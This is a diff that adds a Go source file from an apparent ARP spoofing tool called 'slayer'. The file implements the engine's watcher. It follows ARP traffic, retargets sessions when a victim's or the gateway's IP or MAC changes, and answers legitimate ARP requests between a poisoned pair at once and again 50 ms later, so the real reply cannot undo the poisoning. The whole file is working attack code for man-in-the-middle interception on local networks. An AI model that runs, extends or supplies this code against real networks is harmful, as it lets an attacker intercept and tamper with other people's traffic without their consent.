@@ -0,0 +1,184 @@
+package spoof
+
+import (
+	"bytes"
+	"net"
+	"time"
+
+	"github.com/prabalesh/slayer/internal/networking/arp"
+)
+
+// Change describes an address change the engine followed on its own: a
+// target moving to a new IP or MAC, or the gateway changing MAC.
+type Change struct {
+	HostID  int64 // session that was retargeted, unset for the gateway
+	Gateway bool
+	OldIP   net.IP
+	IP      net.IP
+	OldMAC  net.HardwareAddr
+	MAC     net.HardwareAddr
+}
+
+const (
+	// watchTimeout bounds how long the watcher blocks before checking for stop
+	watchTimeout = 500 * time.Millisecond
+	// AnswerRepeat is how long after answering a request the answer is sent
+	// again, in case the legitimate reply arrived after ours
+	AnswerRepeat = 50 * time.Millisecond
+)
+
+// OnChange registers fn to be called, outside the engine lock, whenever a
+// session or the gateway is retargeted from observed ARP traffic.
+func (e *Engine) OnChange(fn func(Change)) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.onChange = fn
+}
+
+// Gateway returns the gateway addresses currently poisoned against.
+func (e *Engine) Gateway() (net.IP, net.HardwareAddr) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return e.gatewayIP, e.gatewayMAC
+}
+
+// watch follows ARP traffic until stop is closed. It keeps sessions pointed
+// at the addresses their hosts and the gateway currently use, and answers
+// requests between a poisoned pair right away so the legitimate reply does
+// not undo the poisoning until the next refresh.
+func (e *Engine) watch(listener *arp.Listener) {
+	defer listener.Close()
+
+	ourMAC := e.sender.Interface().HardwareAddr
+	for {
+		select {
+		case <-e.stop:
+			return
+		default:
+		}
+
+		p, err := listener.Read()
+		if err != nil {
+			return
+		}
+		// Our own frames and address probes say nothing about ownership
+		if p == nil || bytes.Equal(p.EthSrc, ourMAC) || bytes.Equal(p.SenderHardwareAddr, ourMAC) || p.IsProbe() {
+			continue
+		}
+		e.observe(p.SenderHardwareAddr, p.SenderIP)
+
+		if p.Operation == arp.OperationRequest {
+			e.answer(p.SenderIP, p.TargetIP)
+		}
+	}
+}
+
+// answer re-poisons the session a request from senderIP for targetIP belongs
+// to, both now and shortly after
+func (e *Engine) answer(senderIP, targetIP net.IP) {
+	e.mu.Lock()
+	var id int64
+	found := false
+	for _, s := range e.sessions {
+		if (senderIP.Equal(s.TargetIP) && targetIP.Equal(e.gatewayIP)) ||
+			(senderIP.Equal(e.gatewayIP) && targetIP.Equal(s.TargetIP)) {
+			id, found = s.ID, true
+			break
+		}
+	}
+	e.mu.Unlock()
+
+	if !found {
+		return
+	}
+	e.repoison(id)
+	time.AfterFunc(AnswerRepeat, func() { e.repoison(id) })
+}
+
+// repoison sends a session's poison frames outside its schedule
+func (e *Engine) repoison(id int64) {
+	e.mu.Lock()
+	s, exists := e.sessions[id]
+	if !exists {
+		e.mu.Unlock()
+		return
+	}
+	frames := PoisonFrames(s.Direction, e.sender.Interface().HardwareAddr, s.TargetIP, s.TargetMAC, e.gatewayIP, e.gatewayMAC)
+	e.mu.Unlock()
+
+	if !e.pacer.wait(len(frames), e.stop) {
+		return
+	}
+	err := e.sender.SendBatch(frames)
+
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	if err != nil {
+		s.SendErrors++
+		return
+	}
+	s.PacketsSent += uint64(len(frames))
+	s.Answered++
+}
+
+// observe updates sessions from one host's ARP sender addresses
+func (e *Engine) observe(senderMAC net.HardwareAddr, senderIP net.IP) {
+	var changes []Change
+
+	e.mu.Lock()
+	now := time.Now()
+	if senderIP.Equal(e.gatewayIP) {
+		if !bytes.Equal(senderMAC, e.gatewayMAC) {
+			changes = append(changes, Change{
+				Gateway: true,
+				OldIP:   e.gatewayIP,
+				IP:      e.gatewayIP,
+				OldMAC:  e.gatewayMAC,
+				MAC:     cloneMAC(senderMAC),
+			})
+			e.gatewayMAC = cloneMAC(senderMAC)
+			// The gateway forgot us along with its old MAC
+			for _, s := range e.sessions {
+				s.next = now
+			}
+			e.notify()
+		}
+	} else {
+		for _, s := range e.sessions {
+			sameMAC := bytes.Equal(senderMAC, s.TargetMAC)
+			sameIP := senderIP.Equal(s.TargetIP)
+			if sameMAC == sameIP {
+				continue
+			}
+			change := Change{HostID: s.ID, OldIP: s.TargetIP, OldMAC: s.TargetMAC}
+			if sameMAC {
+				s.TargetIP = cloneIP(senderIP)
+			} else {
+				s.TargetMAC = cloneMAC(senderMAC)
+			}
+			change.IP, change.MAC = s.TargetIP, s.TargetMAC
+			changes = append(changes, change)
+			s.next = now
+			e.notify()
+		}
+	}
+	if len(changes) > 0 {
+		e.refilter()
+	}
+	onChange := e.onChange
+	e.mu.Unlock()
+
+	if onChange != nil {
+		for _, change := range changes {
+			onChange(change)
+		}
+	}
+}
+
+func cloneMAC(mac net.HardwareAddr) net.HardwareAddr {
+	return append(net.HardwareAddr(nil), mac...)
+}
+
+func cloneIP(ip net.IP) net.IP {
+	return append(net.IP(nil), ip.To4()...)
+}